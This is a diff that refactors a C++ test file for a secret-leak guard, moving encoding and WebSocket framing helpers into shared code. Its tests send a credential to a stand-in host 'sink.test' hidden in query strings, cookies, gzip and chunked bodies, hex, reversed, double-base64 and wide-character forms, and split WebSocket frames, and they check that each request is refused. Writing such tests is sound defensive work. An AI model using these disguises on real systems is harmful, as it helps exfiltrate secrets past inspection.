@@ -1,43 +1,15 @@
 // What the guard does with credentials that nobody told it about, and with known secrets in disguise.
-#include <zlib.h>
-
+#include "base/ids.h"
 #include "guard/program/secrets_test.h"
-#include "guard/protocol/websocket.h"
+#include "scan/encoding/compress_test.h"
 #include "scan/rule_examples.h"
 
 namespace bottle::guard {
 namespace {
 
-std::string gzipped(std::string_view text) {
-  z_stream stream{};
-  deflateInit2(&stream, 6, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY);
-  std::string out(text.size() + 100, '\0');
-  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(text.data()));
-  stream.avail_in = static_cast<uInt>(text.size());
-  stream.next_out = reinterpret_cast<Bytef*>(out.data());
-  stream.avail_out = static_cast<uInt>(out.size());
-  deflate(&stream, Z_FINISH);
-  out.resize(out.size() - stream.avail_out);
-  deflateEnd(&stream);
-  return out;
-}
+using scan::gzipped;
 
-std::string hex(std::string_view text) {
-  std::string out;
-  for (unsigned char c : text) out += {"0123456789abcdef"[c >> 4], "0123456789abcdef"[c & 15]};
-  return out;
-}
-
-std::string chunked(const std::string& text, size_t size) {
-  std::string out;
-  for (size_t at = 0; at < text.size(); at += size) {
-    std::string piece = text.substr(at, size);
-    char length[20];
-    snprintf(length, sizeof length, "%zx\r\n", piece.size());
-    out += length + piece + "\r\n";
-  }
-  return out + "0\r\n\r\n";
-}
+std::string chunked(std::string_view text, size_t size) { return in_chunks(text, size) + "0\r\n\r\n"; }
 
 // `token`, of a form that a rule knows; `kOther`, the value of a secret that is bound to another host.
 class FindingsTest : public SecretsTest {
@@ -56,7 +28,7 @@ TEST_F(FindingsTest, ACredentialIsRefusedWhereverItIsInARequest) {
   auto sink = origin("sink.test");
   start();
   std::string json_body = json{{"note", "the token is " + token}}.dump();
-  std::string in_chunks = "POST / HTTP/1.1\r\nHost: sink.test\r\nTransfer-Encoding: chunked\r\n\r\n";
+  std::string head = "POST / HTTP/1.1\r\nHost: sink.test\r\nTransfer-Encoding: chunked\r\n\r\n";
   for (const std::string& request : {
            get("sink.test", "/?q=" + token),
            get("sink.test", "/" + token),
@@ -65,8 +37,8 @@ TEST_F(FindingsTest, ACredentialIsRefusedWhereverItIsInARequest) {
            get("sink.test", "/", "Cookie: a=" + base64_encode("x" + token) + "\r\n"),
            post("sink.test", json_body),
            post("sink.test", gzipped(json_body), "Content-Encoding: gzip\r\n"),
-           in_chunks + chunked(json_body, 7),
-           in_chunks + chunked(std::string(5000, ' ') + base64_encode(hex(token)), 900),
+           head + chunked(json_body, 7),
+           head + chunked(std::string(5000, ' ') + base64_encode(to_hex(token)), 900),
        })
     EXPECT_TRUE(refused("sink.test", request)) << request.substr(0, 300);
   EXPECT_EQ(sink->last().find(token.substr(4)), std::string::npos) << sink->last();
@@ -83,8 +55,8 @@ TEST_F(FindingsTest, AKnownSecretIsRefusedInEveryDisguise) {
   std::string value = kOther, wide;
   for (char c : value) wide += {c, '\0'};
   for (const std::string& disguised :
-       {std::string(value.rbegin(), value.rend()), hex(value), base64_encode(base64_encode("ab" + value)),
-        base64_encode(gzipped(value)), hex(wide), gzipped("first " + value)})
+       {std::string(value.rbegin(), value.rend()), to_hex(value), base64_encode(base64_encode("ab" + value)),
+        base64_encode(gzipped(value)), to_hex(wide), gzipped("first " + value)})
     EXPECT_TRUE(refused("sink.test", post("sink.test", "x " + disguised + " y"))) << disguised;
   EXPECT_TRUE(sink->last().empty() || body_of(sink->last()).size() <= 2) << sink->last();
   EXPECT_EQ(audited("secret").value("secret", ""), "db");
@@ -264,13 +236,7 @@ TEST_F(FindingsTest, ABodyThatPausesIsNotHeldBack) {
 
 class WebSocketFindingsTest : public FindingsTest {
  protected:
-  static std::string frame(uint8_t opcode, bool fin, std::string_view payload) {
-    WebSocketWriter writer(WebSocketSender::client);
-    std::string out;
-    writer.begin({opcode, fin, false, payload.size()}, {'k', 'e', 'y', '!'}, out);
-    writer.payload(payload, out);
-    return out;
-  }
+  static constexpr auto kClient = WebSocketSender::client;
   // What the server has received when `frames` were sent and the connection ended.
   std::string sent(const std::string& frames) {
     std::string payload;
@@ -293,7 +259,7 @@ class WebSocketFindingsTest : public FindingsTest {
       if (!wire.ssl) return "no TLS";
       wire.write("GET / HTTP/1.1\r\nHost: ws.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n");
       EXPECT_NE(wire.head().find(" 101 "), std::string::npos);
-      wire.write(frames + frame(WebSocketFrame::close, true, ""));
+      wire.write(frames + frame(kClient, WebSocketFrame::close, true, ""));
       wire.to_end();
     }
     return payload;
@@ -302,11 +268,14 @@ class WebSocketFindingsTest : public FindingsTest {
 
 TEST_F(WebSocketFindingsTest, ACredentialDoesNotLeaveInAMessage) {
   allow({{"host", "ws.test"}, {"inspect", true}});
-  EXPECT_EQ(sent(frame(1, true, "hello") + frame(1, true, std::string(2000, '.'))), "hello" + std::string(2000, '.'));
-  EXPECT_EQ(sent(frame(1, true, "hello") + frame(1, true, "t=" + token)).find("t="), std::string::npos);
-  EXPECT_EQ(sent(frame(1, false, "t=" + token.substr(0, 20)) + frame(9, true, "") + frame(0, true, token.substr(20))),
+  EXPECT_EQ(sent(frame(kClient, 1, true, "hello") + frame(kClient, 1, true, std::string(2000, '.'))),
+            "hello" + std::string(2000, '.'));
+  EXPECT_EQ(sent(frame(kClient, 1, true, "hello") + frame(kClient, 1, true, "t=" + token)).find("t="),
+            std::string::npos);
+  EXPECT_EQ(sent(frame(kClient, 1, false, "t=" + token.substr(0, 20)) + frame(kClient, 9, true, "") +
+                 frame(kClient, 0, true, token.substr(20))),
             "");
-  EXPECT_EQ(sent(frame(9, true, token)), "") << "in a ping";
+  EXPECT_EQ(sent(frame(kClient, 9, true, token)), "") << "in a ping";
   EXPECT_EQ(audited("secret").value("rule", ""), "github-token");
 }
 
